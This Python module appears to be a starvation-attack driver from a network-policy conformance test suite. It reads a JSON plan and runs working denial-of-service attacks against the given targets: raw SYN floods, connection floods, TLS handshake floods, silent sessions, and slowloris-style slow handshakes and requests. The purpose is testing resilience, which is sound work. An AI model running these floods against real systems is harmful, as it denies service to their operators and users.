"""The source that starves the others: ``python -m conformance.starvation.attacker``, a process in its namespace.

It reads its :class:`Plan` (JSON, one line) from standard input, attacks until that ends, and writes what it has done.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import enum
import errno
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter, deque
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from ipaddress import ip_address
from itertools import cycle
from pathlib import Path

from conformance.application.message import HEADER, frame
from conformance.application.tls import context
from conformance.pki.identities import Identity
from conformance.probe.shape import Shape, template
from netpolicy.topology.model import Assurance

_PATIENCE = 4.0
"""Seconds for a connection to come to be, handshake included."""
_PACE = 1.0
"""Seconds between two bytes of what is slow."""
_AGAIN = 0.2
"""Seconds before a session that has ended is begun again."""
_AT_END = 2.0
"""Seconds in which sessions are let go of."""
_AT_ONCE = 512
"""Connections that a flood of them holds before it drops the oldest."""
_SOURCE_PORTS = range(2048, 32048)
"""Of raw SYNs: below those that the kernel itself chooses (net.ipv4.ip_local_port_range)."""
_BODY = 4096
"""Bytes that a slow request announces."""


class Kind(enum.StrEnum):
    """What it does."""

    NONE = "none"
    SILENT = "silent sessions"
    SLOW_HANDSHAKES = "slow handshakes"
    SLOW_REQUESTS = "slow requests"
    HALF_OPEN = "half-open connections"
    CONNECTIONS = "connection flood"
    HANDSHAKES = "handshake flood"


@dataclass(frozen=True, slots=True)
class Target:
    """From which of its addresses it asks whom."""

    source: str
    address: str
    port: int
    name: str
    """The server's DNS name (SNI)."""


@dataclass(frozen=True, slots=True)
class Plan:
    """What to do."""

    kind: Kind
    targets: tuple[Target, ...]
    identity: str
    """The directory of its certificate, which is a good one."""
    assurance: Assurance
    alpn: str
    sessions: int
    """How many of what lasts are held at once, over all targets."""
    device: str
    macs: str
    """Destination and source MAC address of its frames (hexadecimal)."""

    def written(self) -> str:
        """Return the plan as one line."""
        return json.dumps(dataclasses.asdict(self)) + "\n"

    @classmethod
    def read(cls, line: str) -> Plan:
        """Return the plan that a line tells."""
        said = json.loads(line)
        targets = tuple(Target(**each) for each in said.pop("targets"))
        kind, assurance = Kind(said.pop("kind")), Assurance(said.pop("assurance"))
        return cls(kind=kind, targets=targets, assurance=assurance, **said)


class Attack:
    """One attack, until :attr:`over` is set."""

    def __init__(self, plan: Plan) -> None:
        """Prepare it."""
        self.done: Counter[str] = Counter()
        """What was begun, came to be, and was ended by the other side."""
        self.over = threading.Event()
        self._plan = plan
        self._held = 0
        own = Identity(Path(plan.identity))
        self._context = context(own, frozenset({plan.assurance}), plan.alpn, server=False)

    def run(self) -> None:
        """Attack until it is over."""
        kind = self._plan.kind
        if kind is Kind.NONE:
            self.over.wait()
        elif kind is Kind.HALF_OPEN:
            self._raw()
        elif kind is Kind.CONNECTIONS:
            self._connections()
        else:
            asyncio.run(self._sessions())

    async def _sessions(self) -> None:
        one: dict[Kind, Callable[[Target], Awaitable[None]]] = {
            Kind.SILENT: self._silent,
            Kind.SLOW_HANDSHAKES: self._slow_handshake,
            Kind.SLOW_REQUESTS: self._slow_request,
            Kind.HANDSHAKES: self._handshake,
        }
        attempt = one[self._plan.kind]
        targets = self._plan.targets
        tasks = [
            asyncio.create_task(self._again_and_again(attempt, targets[number % len(targets)]))
            for number in range(self._plan.sessions)
        ]
        await asyncio.to_thread(self.over.wait)
        for task in tasks:
            task.cancel()
        await asyncio.wait(tasks, timeout=_AT_END)

    async def _again_and_again(self, attempt: Callable[[Target], Awaitable[None]], target: Target) -> None:
        # wait_for() can lose a cancellation (CPython 86296), hence not for ever.
        while not self.over.is_set():
            self.done["begun"] += 1
            try:
                await attempt(target)
            except (OSError, asyncio.IncompleteReadError):  # ssl.SSLError and TimeoutError among them
                self.done["failed"] += 1
            await asyncio.sleep(0 if self._plan.kind is Kind.HANDSHAKES else _AGAIN)

    async def _open(self, target: Target, *, tls: bool) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        opened = await asyncio.wait_for(
            asyncio.open_connection(
                target.address,
                target.port,
                ssl=self._context if tls else None,
                server_hostname=target.name if tls else None,
                local_addr=(target.source, 0),
            ),
            _PATIENCE,
        )
        self.done["came to be"] += 1
        return opened

    async def _hold(self, target: Target, said: bytes, slowly: bytes, *, tls: bool) -> None:
        """Say something at once and the rest slowly, and then nothing until the other side ends it."""
        reader, writer = await self._open(target, tls=tls)
        self._held += 1
        self.done["held at most"] = max(self.done["held at most"], self._held)
        try:
            writer.write(said)
            ended = asyncio.create_task(reader.read(-1))
            try:
                for number in range(len(slowly)):
                    if (await asyncio.wait([ended], timeout=_PACE))[0]:
                        break
                    writer.write(slowly[number : number + 1])
                await ended
            finally:
                ended.cancel()
            self.done["ended by the other side"] += 1
        finally:
            self._held -= 1
            writer.transport.abort()

    async def _silent(self, target: Target) -> None:
        await self._hold(target, b"", b"", tls=True)

    async def _slow_handshake(self, target: Target) -> None:
        await self._hold(target, b"", self._hello(target), tls=False)

    async def _slow_request(self, target: Target) -> None:
        """Say the header in time, so that whoever looks at the first bytes is content."""
        said = frame(bytes(_BODY), 1 if self._plan.assurance is Assurance.INSPECT else 2)
        await self._hold(target, said[: HEADER.size], said[HEADER.size :], tls=True)

    async def _handshake(self, target: Target) -> None:
        _, writer = await self._open(target, tls=True)
        writer.transport.abort()

    def _hello(self, target: Target) -> bytes:
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        with contextlib.suppress(ssl.SSLWantReadError):
            self._context.wrap_bio(incoming, outgoing, server_hostname=target.name).do_handshake()
        return outgoing.read()

    def _connections(self) -> None:
        """Open connections as fast as one process can, and drop the oldest with a reset."""
        held: deque[socket.socket] = deque()
        for target in cycle(self._plan.targets):
            if self.over.is_set():
                break
            made = socket.socket(socket.AF_INET6 if ":" in target.address else socket.AF_INET)
            made.setblocking(False)
            made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            try:
                made.bind((target.source, 0))
                made.connect_ex((target.address, target.port))
                self.done["begun"] += 1
            except OSError as full:
                if full.errno not in {errno.EADDRINUSE, errno.EADDRNOTAVAIL}:
                    raise
            held.append(made)
            if len(held) > _AT_ONCE:
                oldest = held.popleft()
                self.done["came to be"] += _connected(oldest)
                oldest.close()
        for each in held:
            each.close()

    def _raw(self) -> None:
        """Send SYNs as fast as one process can, and never answer what comes."""
        macs = bytes.fromhex(self._plan.macs)
        frames = []
        for number, source_port in enumerate(_SOURCE_PORTS):
            target = self._plan.targets[number % len(self._plan.targets)]
            ends = ip_address(target.source), ip_address(target.address)
            shape = template(Shape.SYN, ends[0].version)
            frames.append(shape.frame(number, macs, *ends, source_port=source_port, port=target.port))
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
            sender.bind((self._plan.device, 0))
            for each in cycle(frames):
                if self.over.is_set():
                    break
                try:
                    sender.send(each)
                except OSError as full:
                    if full.errno != errno.ENOBUFS:
                        raise
                else:
                    self.done["begun"] += 1


def _connected(made: socket.socket) -> bool:
    try:
        made.getpeername()
    except OSError:
        return False
    return True


def main() -> int:
    """Attack as standard input says, until it ends."""
    attack = Attack(Plan.read(sys.stdin.readline()))
    begun = time.monotonic()

    def wait() -> None:
        select.select([sys.stdin], [], [])
        attack.over.set()

    threading.Thread(target=wait, daemon=True).start()
    attack.run()
    print(json.dumps({**attack.done, "seconds": round(time.monotonic() - begun, 1)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
